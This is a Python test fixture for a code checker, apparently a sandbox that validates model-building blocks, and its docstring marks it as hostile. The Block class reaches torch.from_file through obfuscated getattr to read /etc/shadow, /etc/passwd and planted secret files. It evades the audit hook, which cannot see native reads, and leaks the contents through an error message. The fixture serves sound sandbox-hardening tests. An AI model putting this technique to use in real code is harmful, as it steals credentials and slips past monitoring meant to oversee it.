"""Hostile: reads host files from native code (torch.from_file, which the audit hook cannot
see) and puts what it read into its error message, which the checker reports. The test
puts the paths of two planted secrets in place of "SECRET"."""
import torch
import torch.nn as nn
from genesys.lmade import GAUBase


class Block(GAUBase):
    """Leaks host files through the check message."""

    def __init__(self, embed_dim, block_loc, kwarg_all, device=None, dtype=None, **kwargs):
        super().__init__(embed_dim, block_loc, kwarg_all)
        self.proj = nn.Linear(embed_dim, embed_dim, device=device, dtype=dtype)
        reader = getattr([torch.nn.parameter.torch][0], "from_" + "file")
        found = []
        for path in ("SECRET", "SECRET", "/etc/shadow", "/etc/passwd"):  # the test fills in
            try:
                found.append(bytes(reader(path, size=32, dtype=torch.uint8).tolist()).decode())
            except Exception as exc:
                found.append(type(exc).__name__)
        raise ValueError("found: " + " | ".join(found))

    def _forward(self, X, **Z):
        return X + self.proj(X), Z


ROOT = "Block"
CONFIG = {}
